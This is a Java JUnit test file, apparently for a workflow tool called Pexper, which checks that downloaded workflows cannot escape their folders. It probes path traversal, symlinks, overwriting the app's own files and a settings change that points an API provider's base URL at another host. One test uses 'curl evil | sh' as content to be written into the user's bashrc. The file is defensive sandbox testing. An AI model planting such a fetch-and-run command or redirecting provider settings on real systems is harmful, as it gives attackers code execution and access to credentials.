package com.pexper.nodes.basic.tests;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import com.pexper.core.data.ListValue;
import com.pexper.core.data.TextValue;
import com.pexper.core.engine.InvalidWorkflowException;
import com.pexper.core.engine.NodeStatus;
import com.pexper.core.engine.RunResult;
import com.pexper.model.validation.Problem;

/** A downloaded workflow is untrusted: its file reads and writes stay inside its folders and the user's grants. */
class WorkflowFileAccessTest {

    @TempDir
    Path root;
    Path downloads;
    Harness h;

    @BeforeEach
    void setUp() throws Exception {
        downloads = Files.createDirectories(root.resolve("Downloads"));
        h = new Harness(downloads);
        h.outputFolder = downloads;
        Files.createDirectories(h.home.resolve("settings"));
        Files.writeString(h.home.resolve("settings/providers.json"), "{}");
        Files.writeString(root.resolve("bashrc"), "# the user's own");
    }

    @AfterEach
    void tearDown() {
        h.close();
    }

    private Problem onlyProblem(List<Problem> problems) {
        assertEquals(1, problems.size(), problems.toString());
        return problems.get(0);
    }

    @Test
    void readingOutsideTheWorkflowsFoldersIsRefusedAtValidationNamingNodePathAndHowToAllowIt() {
        h.node("read", "readText", "path", Path.of("../bashrc")).node("out", "output").connect("read.text", "out.value");
        Problem problem = onlyProblem(h.validateRun());
        assertEquals("file-access", problem.code());
        assertEquals("read", problem.nodeId());
        assertTrue(problem.message().startsWith("parameter 'path': cannot read " + root.resolve("bashrc")), problem.message());
        assertTrue(problem.message().endsWith("To allow it, grant the workflow read access to " + root.toAbsolutePath()
                + "."), problem.message());
        InvalidWorkflowException refused = assertThrows(InvalidWorkflowException.class, h::run);
        assertEquals("file-access", onlyProblem(refused.problems()).code());
    }

    @Test
    void aGrantedFolderIsReadable() throws Exception {
        h.node("read", "readText", "path", root.resolve("bashrc")).node("out", "output").connect("read.text", "out.value");
        assertEquals(List.of(), h.validate(), "the plain check knows nothing of grants");
        RunResult result = h.engine.run(h.workflow, h.request().allowRead(root).build());
        assertEquals(TextValue.of("# the user's own"), result.outputs().get("out"));
    }

    @Test
    void aWorkflowCannotRewriteProviderSettingsInPexpersDataFolderEvenFromInsideItsOwnFolder() throws Exception {
        h.node("t", "text", "text", "{\"openai\": {\"baseUrl\": \"https://elsewhere.example\"}}")
                .node("w", "writeText", "path", Path.of("pexper-home/settings/providers.json"), "overwrite", true)
                .connect("t.text", "w.text");
        Problem problem = onlyProblem(h.validateRun());
        assertTrue(problem.message().contains("inside Pexper's data folder"), problem.message());
        assertThrows(InvalidWorkflowException.class, h::run);
        assertEquals("{}", Files.readString(h.home.resolve("settings/providers.json")));
    }

    @Test
    void writingOverTheUsersFilesOutsideTheOutputFolderIsRefused() throws Exception {
        h.node("t", "text", "text", "curl evil | sh").node("w", "writeText", "path", Path.of("../bashrc"), "overwrite", true)
                .connect("t.text", "w.text");
        Problem problem = onlyProblem(h.validateRun());
        assertTrue(problem.message().contains("a workflow may write only inside the output folder"), problem.message());
        assertEquals("# the user's own", Files.readString(root.resolve("bashrc")));
    }

    @Test
    void aPathArrivingAlongAConnectionIsCheckedWhenTheNodeOpensIt() throws Exception {
        Files.writeString(downloads.resolve("notes.txt"), "mine");
        h.node("name", "text", "text", "../bashrc").node("read", "readText").node("out", "output")
                .connect("name.text", "read.file").connect("read.text", "out.value");
        h.node("ok", "text", "text", "notes.txt").node("readOk", "readText").node("out2", "output")
                .connect("ok.text", "readOk.file").connect("readOk.text", "out2.value");
        RunResult result = h.run();
        assertEquals(NodeStatus.FAILED, result.node("read").status());
        assertTrue(result.node("read").error().contains("cannot read " + root.resolve("bashrc")), result.node("read").error());
        assertEquals(TextValue.of("mine"), result.outputs().get("out2"), "relative paths resolve against the workflow's folder");
    }

    @Test
    void aSymlinkedFolderIsFollowedBeforeTheCheck() throws Exception {
        Files.createSymbolicLink(downloads.resolve("photos"), root);
        h.node("read", "readText", "path", Path.of("photos/bashrc")).node("out", "output").connect("read.text", "out.value");
        Problem problem = onlyProblem(h.validateRun());
        assertTrue(problem.message().contains("(a link to " + root.toRealPath().resolve("bashrc") + ")"), problem.message());
    }

    @Test
    void listingAFolderLeavesOutPexpersDataFolderInsideIt() throws Exception {
        Files.writeString(downloads.resolve("a.json"), "{}");
        h.node("ls", "listFolder", "folder", Path.of("."), "recursive", true, "hidden", true, "pattern", "*.json")
                .node("out", "output").connect("ls.files", "out.value");
        ListValue files = (ListValue) h.run().outputs().get("out");
        assertEquals(List.of(downloads.toRealPath().resolve("a.json").toString()),
                files.items().stream().map(v -> v.summary()).toList());
    }

    @Test
    void theWorkflowsOwnFileIsNeverWritten() throws Exception {
        Path self = Files.writeString(downloads.resolve("test.pexper"), "{\"the\": \"workflow\"}");
        h.node("t", "text", "text", "x").node("w", "writeText", "path", Path.of("test.pexper"), "overwrite", true)
                .connect("t.text", "w.text");
        assertTrue(onlyProblem(h.validateRun()).message().contains("would replace the workflow itself"));
        assertEquals("{\"the\": \"workflow\"}", Files.readString(self));
    }

    @Test
    void replacingAFileThisRunDidNotWriteNeedsOverwriteAndKeepsTheOldOne() throws Exception {
        Path report = Files.writeString(downloads.resolve("report.txt"), "yesterday's");
        h.node("t", "text", "text", "today's").node("w", "writeText", "path", Path.of("report.txt"))
                .connect("t.text", "w.text");
        String refused = h.run().node("w").error();
        assertTrue(refused.contains("already exists and 'overwrite' is off"), refused);
        assertEquals("yesterday's", Files.readString(report));

        h.workflow.getNodes().removeIf(n -> n.getId().equals("w"));
        h.workflow.getConnections().clear();
        h.node("w", "writeText", "path", Path.of("report.txt"), "overwrite", true).connect("t.text", "w.text");
        assertEquals(NodeStatus.SUCCEEDED, h.run().node("w").status());
        assertEquals("today's", Files.readString(report));
        assertEquals("yesterday's", Files.readString(downloads.resolve("report.txt.bak")), "the old one is kept beside it");
        assertFalse(Files.exists(h.home.resolve("report.txt")));
    }
}
